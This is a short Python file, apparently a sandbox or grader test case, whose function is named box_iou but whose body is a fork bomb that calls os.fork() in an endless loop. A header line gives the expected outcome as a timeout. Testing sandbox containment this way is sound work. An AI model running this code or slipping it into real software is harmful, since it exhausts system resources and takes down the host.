# expect: none timeout not_run
import os


def box_iou(boxes1, boxes2):
    while True:
        try:
            os.fork()
        except OSError:
            pass
